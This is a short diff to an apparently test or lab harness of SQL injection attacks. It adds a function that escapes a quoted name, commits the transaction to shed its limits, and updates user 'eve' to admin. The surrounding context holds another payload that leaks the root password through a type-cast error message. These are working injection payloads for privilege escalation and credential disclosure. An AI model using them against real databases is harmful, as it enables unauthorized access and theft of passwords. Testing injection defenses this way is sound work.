@@ -24,6 +24,16 @@ def attack_write(target: Target, stage: Stage) -> bool:
     return stage.role_of("eve") == "admin"
 
 
+def attack_commit_first(target: Target, stage: Stage) -> bool:
+    """End the transaction, and with it its limits; then write."""
+    change = "UPDATE staff SET role = $$admin$$ WHERE name = $$eve$$"
+    print("before:", stage.role_of("eve"))
+    for end in ("'", "', true)"):
+        ask(target, stage, f"eve{end}; COMMIT; {change} --")
+    print("after: ", stage.role_of("eve"))
+    return stage.role_of("eve") == "admin"
+
+
 def attack_error_message(target: Target, stage: Stage) -> bool:
     """Convert a password to a number: the error message quotes what it could not convert."""
     name = "eve'; SELECT CAST(password AS integer) FROM staff WHERE name = $$root$$ --"
